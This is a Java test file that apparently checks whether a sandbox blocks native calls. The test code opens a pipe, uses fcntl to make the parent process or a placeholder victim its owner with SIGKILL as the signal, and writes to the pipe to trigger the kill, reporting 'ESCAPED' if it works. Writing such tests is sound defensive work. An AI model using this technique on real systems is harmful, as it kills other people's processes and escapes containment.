// expect: contained or raised IllegalCallerException
/** Makes the parent the owner of a pipe, so that the kernel would signal it. */
import java.lang.foreign.Arena;
import java.lang.foreign.MemorySegment;
import java.lang.foreign.ValueLayout;

class NativeSignalsByOwner {
  static String attack() throws Throwable {
    long parent = ProcessHandle.current().parent().map(ProcessHandle::pid).orElse(1L);
    try (Arena arena = Arena.ofConfined()) {
      MemorySegment ends = arena.allocate(8, 8);
      call("pipe", ends.address(), 0, 0);
      long reader = ends.get(ValueLayout.JAVA_INT, 0);
      long writer = ends.get(ValueLayout.JAVA_INT, 4);
      for (long target : new long[] {parent, Long.parseLong("@VICTIM@")}) {
        if (call("fcntl", reader, 8, target) == 0) {
          call("fcntl", reader, 10, 9);
          call("fcntl", reader, 4, 0x2000);
          call("write", writer, ends.address(), 1);
        }
      }
    }
    Thread.sleep(50);
    long after = ProcessHandle.current().parent().map(ProcessHandle::pid).orElse(1L);
    return after == parent ? "contained" : "ESCAPED: the parent is gone";
  }

  static int call(String name, long first, long second, long third) throws Throwable {
    var linker = java.lang.foreign.Linker.nativeLinker();
    var shape =
        java.lang.foreign.FunctionDescriptor.of(
            ValueLayout.JAVA_INT, ValueLayout.JAVA_LONG, ValueLayout.JAVA_LONG, ValueLayout.JAVA_LONG);
    return (int) linker.downcallHandle(linker.defaultLookup().findOrThrow(name), shape).invokeExact(first, second, third);
  }
}
